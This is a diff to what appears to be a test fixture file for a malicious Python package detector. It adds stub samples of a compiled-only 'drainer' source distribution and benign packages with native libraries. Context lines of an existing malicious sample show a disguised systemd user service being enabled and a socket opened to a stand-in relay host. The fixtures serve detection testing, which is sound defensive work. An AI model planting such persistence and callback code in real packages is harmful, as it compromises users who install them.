@@ -349,6 +349,14 @@ MALICIOUS_PYPI = {
             "subprocess.call(['systemctl', '--user', 'enable', '--now', 'dbus-helper.service'])\n"
             "s = socket.create_connection(('relay.dbus-helper.example', 443))\n"),
     },
+    # A source distribution that ships only compiled modules (a Cython-built drainer kit).
+    "compiled_only_sdist": {
+        "PKG-INFO": "Metadata-Version: 2.1\nName: chain-utils\nVersion: 2.1.1\n",
+        "pkg/__init__.py": "",
+        "pkg/wallet_util.so": b"\x7fELF\x02\x01\x01" + bytes(2000),
+        "pkg/transaction.so": b"\x7fELF\x02\x01\x01" + bytes(2000),
+        "pkg/wallet_util.pyd": b"MZ\x90\x00" + bytes(2000),
+    },
 }
 
 # ----------------------------------------------------------------------------- benign neighbours
@@ -563,6 +571,21 @@ BENIGN_PYPI = {
             "    d = os.path.expanduser('~/.config/systemd/user')\n"
             "    open(os.path.join(d, 'helperd.service'), 'w').write(f'[Service]\\nExecStart={sys.executable} -m helperd\\n')\n"
             "    subprocess.run(['systemctl', '--user', 'enable', 'helperd.service'], check=True)\n"),
+    },
+    # An audio binding: Python modules beside one bundled native library.
+    "sdist_with_bundled_library": {
+        "PKG-INFO": "Metadata-Version: 2.1\nName: audio-binding\nVersion: 0.5.6\n",
+        "pkg/__init__.py": "from .core import play\n",
+        "pkg/core.py": "import ctypes, os\n_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libaudio.so'))\n\ndef play(b):\n    return _lib.play(b)\n",
+        "pkg/libaudio.so": b"\x7fELF\x02\x01\x01" + bytes(2000),
+    },
+    # A binary wheel: compiled modules are what a wheel is for.
+    "binary_wheel": {
+        "pkg/__init__.py": "",
+        "pkg/_speedups.so": b"\x7fELF\x02\x01\x01" + bytes(2000),
+        "pkg/_parser.so": b"\x7fELF\x02\x01\x01" + bytes(2000),
+        "pkg-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: fastparse\nVersion: 1.0\n",
+        "PKG-INFO": "Metadata-Version: 2.1\nName: fastparse\nVersion: 1.0\n",
     },
 }
 
